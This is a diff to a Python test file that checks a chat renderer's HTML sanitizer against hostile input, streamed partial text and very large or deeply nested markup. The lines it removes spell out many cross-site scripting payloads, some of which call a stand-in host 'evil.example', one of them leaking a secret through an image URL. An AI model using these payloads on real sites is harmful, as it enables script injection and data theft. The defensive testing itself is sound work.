@@ -1,5 +1,6 @@
 """What an agent writes becomes HTML that can be shown, and nothing more than that."""
 
+import re
 import time
 from html.parser import HTMLParser
 
@@ -9,6 +10,8 @@ from hypothesis import strategies as st
 
 from conversations import rendering
 from conversations.rendering import plain_to_html, to_html
+from conversations.rendering.blocks import render_blocks
+from tests.hostile_markup import HOSTILE
 
 ATTRIBUTES = {
     "a": {"href", "title", "target", "rel"},
@@ -21,51 +24,8 @@ ATTRIBUTES = {
     "span": {"class"},
     "td": {"align"},
     "th": {"align"},
-}
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<img src=x onerror=alert(1)>",
-    '<a href="javascript:alert(1)">x</a>',
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](vbscript:msgbox)",
-    "[x](//evil.example/)",
-    "[x](/admin/logout/)",
-    "[x](/media/../admin/logout/)",
-    "[x](/media/%2e%2e/admin/logout/)",
-    "[x](/media/%2E./admin/)",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<javascript:alert(1)>",
-    "![x](https://evil.example/p.png?q=SECRET)",
-    "![x](//evil.example/p.png)",
-    "![x](/\\evil.example/p.png)",
-    "![x](/media\\..\\p.png)",
-    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
-    "![x](data:image/png;base64,AAAA)",
-    '![x](https://a.example/"onerror="alert(1))',
-    '[x](https://a.example/ "t\\" onmouseover=\\"alert(1)")',
-    "<svg/onload=alert(1)>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<form action=//evil.example><input name=q></form>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<style>@import '//evil.example'</style>",
-    "<base href=//evil.example/>",
-    "```\n<script>alert(1)</script>",
-    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
-    '```x" onmouseover="alert(1)\ncode\n```',
-    "`<script>alert(1)</script>`",
-    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
-    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x00",
-    "<!-- --><script>alert(1)</script>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-]
+}  # What the styles know and nothing else: no text dresses up as a part of the page.
+CLASSES = re.compile(r"plain|table|math|language-[\w+#.-]+|hl-[a-z]")
 
 
 class Outline(HTMLParser):
@@ -96,6 +56,8 @@ def assert_harmless(html: str) -> Outline:
     for tag, attributes in outline.elements:
         assert tag in rendering.ALLOWED_TAGS
         assert attributes.keys() <= ATTRIBUTES.get(tag, set())
+        if "class" in attributes:
+            assert CLASSES.fullmatch(attributes["class"])
         if "href" in attributes:
             assert attributes["href"].lower().startswith(("http:", "https:", "mailto:", "/media/"))
             assert attributes["target"] == "_blank"
@@ -108,15 +70,26 @@ def assert_harmless(html: str) -> Outline:
     return outline
 
 
-@pytest.mark.parametrize("text", HOSTILE)
-def test_hostile_text_leaves_only_harmless_elements(text: str) -> None:
-    assert_harmless(to_html(text))
-    assert_harmless(plain_to_html(text))
+def test_hostile_text_leaves_only_harmless_elements() -> None:
+    for text in HOSTILE:
+        assert_harmless(to_html(text))
+        assert_harmless(plain_to_html(text))
 
 
-@pytest.mark.parametrize("text", HOSTILE)
-def test_the_sanitizer_alone_is_enough(text: str) -> None:
-    assert_harmless(rendering.sanitize(text))
+def test_the_sanitizer_alone_is_enough() -> None:
+    for text in HOSTILE:
+        assert_harmless(rendering.sanitize(text))
+
+
+def test_hostile_text_that_still_grows_is_harmless_too() -> None:
+    for text in HOSTILE:
+        for end in range(1, len(text), 5):
+            blocks = render_blocks(text[:end], {})
+            assert_harmless(blocks.closed + blocks.tail)
+
+
+def test_long_hostile_text_is_harmless_too() -> None:
+    assert_harmless(to_html("\n\n".join(HOSTILE)))
 
 
 MARKDOWN_PIECES = st.sampled_from(
@@ -248,6 +221,10 @@ def test_deep_quotes_keep_their_text() -> None:
         "> " * 20_000,
         "".join(" " * depth + "- a\n" for depth in range(280)),
         "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|a\n" * 10_000,
+        "- a\n" * 10_000,
+        ("[" * 199 + "\n\n") * 250,
+        ("|" + "a|" * 250 + "\n|" + "-|" * 250 + "\n" + "|a\n" * 260 + "\n") * 30,
+        "```js\n" + "/*" * 14_000 + "\n```",
         "x" * 1_000_000,
         "*x* " * 250_000,
         "\n" * 1_000_000,
